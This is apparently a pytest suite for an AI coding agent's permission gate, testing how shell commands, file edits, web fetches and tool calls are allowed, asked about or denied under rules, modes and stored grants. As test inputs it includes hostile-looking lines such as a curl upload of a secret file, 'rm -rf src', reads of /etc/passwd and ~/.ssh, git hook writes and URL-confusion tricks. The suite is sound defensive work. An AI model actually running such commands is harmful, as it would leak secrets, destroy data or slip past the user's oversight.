"""The gate as a turn uses it: rules, modes, questions, grants."""

from __future__ import annotations

import asyncio
import json
import multiprocessing
from pathlib import Path
from typing import Any

import pytest

from harness.permissions import GrantStore, Mode, Settings, project_root
from harness.permissions.grant_store import GrantError
from harness.permissions.grants import Grants, dump, load
from harness.permissions.manager import STEPS
from tests.harness.permissions.support import (
    CWD,
    HOME,
    Client,
    call,
    command,
    gate,
    rules,
    selected,
    tree,
    word,
)

PYTHON = command("python3 -V")
WRITE = call("write", {"file_path": "new.txt", "content": "z"})
MCP = call("use_tool", {"tool_name": "srv__tool", "tool_input": {}})


# -- what is asked, mode by mode -------------------------------------------------------------------

MODES = (Mode.DEFAULT, Mode.ACCEPT_EDITS, Mode.PLAN, Mode.AUTO, Mode.DONT_ASK, Mode.BYPASS)
TABLE = [
    # call, then the verdict in each mode of MODES
    (command("ls -la && git status | head"), "allow allow allow allow allow allow"),
    (PYTHON, "ask ask ask ask deny allow"),
    (command("rm x"), "ask ask ask ask deny allow"),
    (command("touch new"), "allow allow allow allow allow allow"),
    (command("touch ~/.bashrc"), "ask ask ask ask deny allow"),
    (command("$X"), "ask ask ask ask deny allow"),
    (command('ls "x'), "ask ask ask ask deny allow"),
    (command("true"), "ask ask ask allow deny allow"),
    (command("ls > out"), "ask ask ask ask deny allow"),
    (WRITE, "ask allow deny allow deny allow"),
    (call("write", {"file_path": ".git/hooks/pre-commit", "content": ""}), "ask ask deny ask deny allow"),
    (call("search_replace", {"file_path": "~/.ssh/config"}), "ask ask deny ask deny allow"),
    (call("write", {"file_path": "etc-link/passwd", "content": ""}), "ask ask deny ask deny allow"),
    (call("write", {"content": "no path"}), "ask ask deny ask deny allow"),
    (call("read_file", {"target_file": "/etc/passwd"}), "allow allow allow allow allow allow"),
    (call("grep", {"pattern": "x"}), "allow allow allow allow allow allow"),
    (call("todo_write", {"todos": []}), "allow allow allow allow allow allow"),
    (call("web_search", {"query": "x"}), "allow allow allow allow allow allow"),
    (call("web_fetch", {"url": "https://a.b/"}), "ask ask ask ask deny allow"),
    (MCP, "ask ask ask ask deny allow"),
    (call("spawn_subagent", {"prompt": "x"}), "ask ask ask ask deny allow"),
    (call("scheduler_create", {"prompt": "x"}), "ask ask ask ask deny allow"),
    (call("monitor", {"command": "python3 -V"}), "ask ask ask ask deny allow"),
]


@pytest.mark.parametrize(("asked", "verdicts"), TABLE, ids=lambda v: v.name if hasattr(v, "name") else None)
async def test_modes(asked: Any, verdicts: str, tmp_path: Path) -> None:
    found = [word(await gate(tmp_path, mode=mode).decide(asked)) for mode in MODES]
    assert found == verdicts.split(), json.dumps(asked.arguments)


@pytest.mark.parametrize("mode", MODES)
async def test_a_deny_rule_holds_in_every_mode(mode: Mode, tmp_path: Path) -> None:
    section = {
        "deny": ["Bash(python3:*)", "Edit(new.txt)", "MCPTool(srv__*)", "Read(secret.txt)"],
        "allow": ["*"],
    }
    ours = gate(tmp_path, section, mode=mode)
    for denied in (PYTHON, WRITE, MCP, command("cat secret.txt"), call("read_file", {"target_file": "lnk"})):
        decision = await ours.decide(denied)
        assert (word(decision), decision.code) == ("deny", "policy_deny")
    again = await ours.decide(call("use_tool", {"tool_name": "SRV__tool"}))
    assert word(again) == "deny"


async def test_always_approve_still_asks_what_a_rule_asks_of_the_shell(tmp_path: Path) -> None:
    ours = gate(tmp_path, {"ask": ["Bash(python3:*)", "Edit(new.txt)"]}, mode=Mode.BYPASS)
    assert word(await ours.decide(PYTHON)) == "ask"
    assert word(await ours.decide(command("$X"))) == "ask"
    assert word(await ours.decide(WRITE)) == "allow"


@pytest.mark.parametrize(
    ("script", "verdict"),
    [
        ("sed x && awk y", "allow"),
        ("sed x; awk y | sed z", "allow"),
        ("sed x && perl y", "ask"),
        ("perl y || sed x", "ask"),
        ("sed x && ls", "ask"),  # `ls` alone may run, but no rule allows the whole
        ("sedx", "ask"),
        ("sed $(ls)", "ask"),
        ("sed $X", "ask"),
        ("sed x > out", "ask"),
        ("sed x 2>/dev/null", "allow"),
        ("A=1 sed x", "ask"),
        ("timeout 5 sed x", "allow"),
        ("env sed x", "allow"),
        ("env A=1 sed x", "ask"),
        ("sudo sed x", "ask"),
        ("(sed x)", "ask"),
        ("sed x &", "ask"),
        ("\\sed x", "ask"),
        ("sed -i s/a/b/ ~/.bashrc", "ask"),
        ('sed "x', "ask"),
        ("# sed", "allow"),
    ],
)
async def test_allowing_takes_every_command(script: str, verdict: str, tmp_path: Path) -> None:
    ours = gate(tmp_path, {"allow": ["Bash(sed:*)", "Bash(awk *)"]})
    assert word(await ours.decide(command(script))) == verdict


@pytest.mark.parametrize(
    ("script", "verdict"),
    [
        ("cat secret.txt", "deny"),
        ("cat ./src/../secret.txt", "deny"),
        ("cat lnk", "deny"),
        ("cat < secret.txt", "deny"),
        ("grep x secret.txt", "deny"),
        ("cp secret.txt b", "deny"),
        ("bash -c 'cat secret.txt'", "deny"),
        ("{ cat a; } > src/n.py", "deny"),
        ("echo x >> src/n.py", "deny"),
        ("rm -rf src", "deny"),
        ("mv a src/m.py", "deny"),
        ("sed -i s/a/b/ src/m.py", "deny"),
        ("dd if=a of=src/m.py", "deny"),
        ("tee src/n.py", "deny"),
        ("cat src/m.py", "allow"),
        ("cat *.txt", "ask"),
        ("cat $(echo secret.txt)", "ask"),
        ("cd src && cat m.py", "ask"),
        ("python3 secret.txt", "ask"),
        ("curl -d @secret.txt http://x", "ask"),
    ],
)
async def test_rules_for_files_hold_in_the_shell(script: str, verdict: str, tmp_path: Path) -> None:
    section = {"deny": ["Read(secret.txt)", "Edit(src/**)"]}
    assert word(await gate(tmp_path, section).decide(command(script))) == verdict
    stricter = {"deny": "deny", "ask": "ask", "allow": "allow"}[verdict]
    assert word(await gate(tmp_path, section, mode=Mode.BYPASS).decide(command(script))) == stricter


async def test_a_command_that_runs_elsewhere_is_judged_there(tmp_path: Path) -> None:
    ours = gate(tmp_path, {"deny": ["Edit(src/**)"]})
    for folder, script, verdict in (
        ("src", "rm m.py", "deny"),
        ("./sub/../src", "echo x > n.py", "deny"),
        ("sub", "touch x", "allow"),
        ("/etc", "touch x", "ask"),
        ("etc-link", "touch x", "ask"),
        ("~/.ssh", "mkdir x", "ask"),
    ):
        asked = call("run_terminal_command", {"command": script, "workdir": folder})
        assert word(await ours.decide(asked)) == verdict, (folder, script)


async def test_an_allowed_link_does_not_lead_out(tmp_path: Path) -> None:
    ours = gate(tmp_path, {"allow": ["Edit(./**)"]})
    assert word(await ours.decide(WRITE)) == "allow"
    assert word(await ours.decide(call("write", {"file_path": "etc-link/x", "content": ""}))) == "ask"
    assert word(await ours.decide(call("write", {"file_path": "../out", "content": ""}))) == "ask"


async def test_home_and_root_as_other_agents_write_them(tmp_path: Path) -> None:
    ours = gate(tmp_path, {"deny": ["Read(~/.ssh/**)", "Read(//etc/**)"]})
    for path in ("~/.ssh/id", f"{HOME}/.ssh/id", "/etc/passwd", '"/etc/passwd"', "etc-link/passwd"):
        assert word(await ours.decide(call("read_file", {"target_file": path}))) == "deny", path


async def test_domains(tmp_path: Path) -> None:
    ours = gate(tmp_path, {"deny": ["WebFetch(domain:www.bad.com)"], "allow": ["WebFetch(domain:good.com)"]})
    for url, verdict in {
        "https://bad.com/x": "deny",
        "http://API.bad.com:8080/": "deny",
        "https://notbad.com/": "ask",
        "https://good.com.": "allow",
        "https://good.com@evil.org/": "ask",
        "https://evil.org\\@good.com/": "ask",
        "file:///good.com": "ask",
        "nonsense": "ask",
    }.items():
        assert word(await ours.decide(call("web_fetch", {"url": url}))) == verdict, url


@pytest.mark.parametrize(
    "config",
    [
        "[core]\n\tfsmonitor = ./x\n",
        '[diff "a"]\n\tcommand = ./x\n',
        "[alias]\n\tstatus = !x\n",
        "[include]\n\tpath = y\n",
    ],
)
async def test_a_repository_that_runs_programs_makes_git_ask(config: str, tmp_path: Path) -> None:
    fs = tree()
    assert word(await gate(tmp_path, fs=fs).decide(command("git status"))) == "allow"
    fs.replace_atomic(f"{CWD}/.git/config", config.encode())
    assert word(await gate(tmp_path, fs=fs).decide(command("git status"))) == "ask"


# -- the question ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("asked", "ids"),
    [
        (PYTHON, ["always-allow", "allow-once", "reject-once", "reject-always"]),
        (WRITE, ["allow-edits-session", "allow-once", "reject-once"]),
        (MCP, ["always-allow", "allow-once", "reject-once"]),
        (
            call("web_fetch", {"url": "https://a.b"}),
            ["allow-always-domain", "allow-once", "reject-once", "reject-always-domain"],
        ),
        (call("spawn_subagent", {"prompt": "x"}), ["allow-once", "reject-once"]),
    ],
)
async def test_options(asked: Any, ids: list[str], tmp_path: Path) -> None:
    client = Client()
    await gate(tmp_path, client=client).decide(asked)
    (params,) = client.asked
    assert set(params) == {"sessionId", "toolCall", "options"}
    assert params["toolCall"] == dict(asked.tool_call)
    assert [o["optionId"] for o in params["options"]] == ids
    assert all(set(o) == {"optionId", "name", "kind"} for o in params["options"])
    forgetful = gate(tmp_path, client=client, settings=Settings(remember=False))
    await forgetful.decide(asked)
    assert [o["optionId"] for o in client.asked[1]["options"]] == ["allow-once", "reject-once"]


@pytest.mark.parametrize(
    ("answer", "verdict"),
    [
        (selected("allow-once"), "allow"),
        (selected("allow-once", "words"), "allow"),
        (selected("reject-once"), "reject"),
        (selected("reject-once", "words"), "followup"),
        (selected("reject-always", "words"), "reject"),
        (selected("bogus"), "reject"),
        (selected("allow-edits-session"), "reject"),  # was not offered for a command
        ({"outcome": {"outcome": "cancelled"}}, "cancel"),
        ({"outcome": {"outcome": "cancelled"}, "_meta": {"followup_message": "x"}}, "cancel"),
        ({"outcome": "selected"}, "reject"),
        ({}, "reject"),
        (None, "reject"),
        (RuntimeError("lost"), "reject"),
    ],
)
async def test_answers(answer: Any, verdict: str, tmp_path: Path) -> None:
    decision = await gate(tmp_path, client=Client(answer)).decide(PYTHON)
    assert str(decision.verdict) == verdict
    assert decision.followup == ("words" if verdict == "followup" else "")
    assert bool(decision.text) == (verdict != "allow")


async def test_without_a_client_nothing_that_needs_one_runs(tmp_path: Path) -> None:
    ours = gate(tmp_path)
    ours._client = None
    assert word(await ours.decide(PYTHON)) == "reject"


async def test_a_cancelled_turn_is_cancelled(tmp_path: Path) -> None:
    class Silent(Client):
        async def request(self, method: str, params: Any) -> dict[str, Any]:
            await asyncio.Event().wait()
            return {}

    work = asyncio.ensure_future(gate(tmp_path, client=Silent()).decide(PYTHON))
    await asyncio.sleep(0.05)
    work.cancel()
    with pytest.raises(asyncio.CancelledError):
        await work


async def test_questions_are_put_one_after_the_other(tmp_path: Path) -> None:
    client = Client(selected("always-allow"))
    ours = gate(tmp_path, client=client)
    decisions = await asyncio.gather(*(ours.decide(PYTHON) for _ in range(4)))
    assert [word(d) for d in decisions] == ["allow"] * 4
    assert len(client.asked) == 1  # the answer to the first counted for the others


async def test_the_plan_may_be_edited_while_it_is_made(tmp_path: Path) -> None:
    ours = gate(tmp_path, mode=Mode.PLAN)
    ours.plan_file = f"{CWD}/new.txt"
    assert word(await ours.decide(WRITE)) == "allow"
    assert word(await ours.decide(call("write", {"file_path": "other", "content": ""}))) == "deny"


# -- grants ----------------------------------------------------------------------------------------


async def test_always_is_remembered_for_the_project_and_only_for_it(tmp_path: Path) -> None:
    client = Client(selected("always-allow"))
    ours = gate(tmp_path, client=client)
    for asked in (command("cargo test && seq 3"), MCP, command("rm zz"), command("sed $X")):
        assert word(await ours.decide(asked)) == "allow"
    assert len(client.asked) == 4
    later = gate(tmp_path)
    granted = [
        "cargo test",
        "cargo test -x",
        "timeout 3 seq 3",
        "seq 3 4; ls",
        "rm zz",
        "sed $X",
        "cargo test && seq 3",
    ]
    for text in granted:
        assert word(await later.decide(command(text))) == "allow", text
    for text in (
        "cargo tests",
        "rm zz y",
        "rm",
        "sed $Y",
        "A=1 cargo test",
        "cargo test > f",
        "cargo test $X",
    ):
        assert word(await later.decide(command(text))) == "ask", text
    assert word(await later.decide(MCP)) == "allow"
    assert word(await later.decide(call("use_tool", {"tool_name": "srv__other"}))) == "ask"
    assert word(await gate(tmp_path, root="/work/other").decide(command("cargo test"))) == "ask"


async def test_never_is_remembered_and_found_within(tmp_path: Path) -> None:
    assert (
        word(await gate(tmp_path, client=Client(selected("reject-always"))).decide(command("rev a")))
        == "reject"
    )
    client = Client(selected("allow-once"))
    later = gate(tmp_path, {"allow": ["Bash(rev *)"]}, client=client)
    for text in ("rev a", "rev a b", "ls; rev a", "bash -c 'rev a'"):
        decision = await later.decide(command(text))
        assert (word(decision), decision.code) == ("reject", "session_deny"), text
    assert not client.asked
    assert word(await gate(tmp_path, mode=Mode.BYPASS).decide(command("rev a"))) == "allow"


async def test_edits_are_granted_for_the_session_only_and_not_where_it_matters(tmp_path: Path) -> None:
    client = Client(selected("allow-edits-session"))
    ours = gate(tmp_path, client=client)
    hook = call("write", {"file_path": ".git/hooks/x", "content": ""})
    for asked in (WRITE, WRITE, hook, hook):
        assert word(await ours.decide(asked)) == "allow"
    assert len(client.asked) == 3  # the hook each time
    assert word(await gate(tmp_path).decide(WRITE)) == "ask"
    assert word(await ours.decide(call("spawn_subagent", {"prompt": "x"}))) != "allow"


async def test_a_grant_does_not_answer_a_question_that_a_rule_puts(tmp_path: Path) -> None:
    GrantStore(tmp_path / "grok", CWD).change(lambda g: Grants(allowed_commands=frozenset({"seq 3"})))
    assert word(await gate(tmp_path).decide(command("seq 3"))) == "allow"
    assert word(await gate(tmp_path, {"ask": ["Bash(seq *)"]}).decide(command("seq 3"))) == "ask"


async def test_a_file_of_grants_that_cannot_be_read_grants_nothing(tmp_path: Path) -> None:
    store = GrantStore(tmp_path / "grok", CWD)
    store.change(lambda g: Grants(allowed_commands=frozenset({"seq 3"})))
    assert store.file is not None
    store.file.write_text("allowed_bash_commands = 3")
    assert word(await gate(tmp_path).decide(command("seq 3"))) == "ask"
    assert word(await gate(tmp_path, {"allow": ["Bash(seq *)"]}).decide(command("seq 3"))) == "ask"
    with pytest.raises(GrantError):
        store.change(lambda g: Grants())
    assert store.file.read_text() == "allowed_bash_commands = 3"


def test_the_file_is_the_originals(tmp_path: Path) -> None:
    text = (
        'edit_policy = "ask"\nallow_bash_execute = false\nallowed_bash_commands = [\n    "a \\"q\\"",\n]\n'
        'disallowed_bash_commands = []\nallowed_bash_globs = ["nl *", "*"]\nallowed_mcp_servers = ["srv"]\n'
        'validated_mcp_server_grants_version = 1\nunknown = "kept"\n'
    )
    grants = load(text)
    assert grants.allowed_commands == {'a "q"'}
    assert load(dump(grants)) == grants
    assert 'unknown = "kept"' in dump(grants)
    assert load(dump(Grants(refused_commands=frozenset({"a\nb\t\x01"})))).refused_commands == {"a\nb\t\x01"}


async def test_globs_and_servers_of_the_original_count_but_no_catch_all(tmp_path: Path) -> None:
    granted = Grants(
        allowed_globs=frozenset({"nl *", "*", "* x", "rm *"}), allowed_servers=frozenset({"srv"})
    )
    GrantStore(tmp_path / "grok", CWD).change(lambda g: granted)
    ours = gate(tmp_path)
    assert word(await ours.decide(command("nl a"))) == "allow"
    assert word(await ours.decide(MCP)) == "allow"
    for text in ("perl x", "rm x", "python3 x"):
        assert word(await ours.decide(command(text))) == "ask", text


def _grow(folder: str, number: int) -> None:
    store = GrantStore(Path(folder), CWD)
    for i in range(8):
        store.change(lambda g, i=i: g._adding("allowed_commands", [f"cmd {number} {i}"]))


def test_writers_at_once_lose_nothing(tmp_path: Path) -> None:
    context = multiprocessing.get_context("fork")
    writers = [context.Process(target=_grow, args=(str(tmp_path), n)) for n in range(3)]
    for writer in writers:
        writer.start()
    for writer in writers:
        writer.join(60)
    assert len(GrantStore(tmp_path, CWD).read().allowed_commands) == 24
    store = GrantStore(tmp_path, CWD)
    assert store.file is not None
    assert store.file.stat().st_mode & 0o077 == 0
    assert {f.name for f in store.file.parent.iterdir()} == {"permission.toml", ".permission.lock"}


def test_the_project_is_the_checkout(tmp_path: Path) -> None:
    (tmp_path / "r/.git").mkdir(parents=True)
    (tmp_path / "r/a/b").mkdir(parents=True)
    (tmp_path / "link").symlink_to(tmp_path / "r/a")
    assert (
        project_root(str(tmp_path / "r/a/b")) == project_root(str(tmp_path / "link/b")) == str(tmp_path / "r")
    )
    assert project_root(str(tmp_path)) == str(tmp_path)


def test_there_is_always_a_judgement() -> None:
    assert [step.__name__ for step in STEPS][-1] == "_rest"
    assert rules(None).rules == ()
